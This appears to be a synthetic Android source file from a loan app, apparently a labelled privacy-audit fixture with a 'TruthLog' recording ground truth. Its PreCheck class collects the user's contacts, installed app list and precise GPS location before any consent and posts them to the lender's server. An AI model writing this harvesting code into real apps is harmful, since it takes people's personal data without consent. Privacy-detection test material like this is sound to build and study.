package com.example.loan;

import android.content.Context;
import android.content.pm.PackageInfo;
import android.location.Location;
import android.location.LocationManager;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import practice.Https;
import practice.Json;
import practice.TruthLog;

/** Scores the visitor before he has agreed to anything: address book, app list and place go to the lender. */
final class PreCheck {
    private final Context mContext;

    PreCheck(Context context) {
        mContext = context;
    }

    void run() {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("contacts", new EmergencyContacts(mContext).read());
        body.put("apps", apps());
        body.put("gps", place());
        for (String data : List.of("contacts", "installed_apps", "location_precise")) {
            TruthLog.transmission(LoanApplication.ACTOR, data, LoanApplication.HOST, "plain", List.of("json"));
        }
        Https.post(LoanApplication.HOST, "/v1/precheck", "application/json", Json.of(body));
    }

    private List<String> apps() {
        long since = TruthLog.now();
        List<String> names = new ArrayList<>();
        for (PackageInfo info : mContext.getPackageManager().getInstalledPackages(0)) {
            names.add(info.packageName);
        }
        TruthLog.access(LoanApplication.ACTOR, "installed_apps", since);
        return names;
    }

    private Map<String, Object> place() {
        long since = TruthLog.now();
        LocationManager locations = (LocationManager) mContext.getSystemService(Context.LOCATION_SERVICE);
        Location location = locations.getLastKnownLocation(LocationManager.GPS_PROVIDER);
        TruthLog.access(LoanApplication.ACTOR, "location_precise", since);
        Map<String, Object> place = new LinkedHashMap<>();
        place.put("latitude", location.getLatitude());
        place.put("longitude", location.getLongitude());
        return place;
    }
}
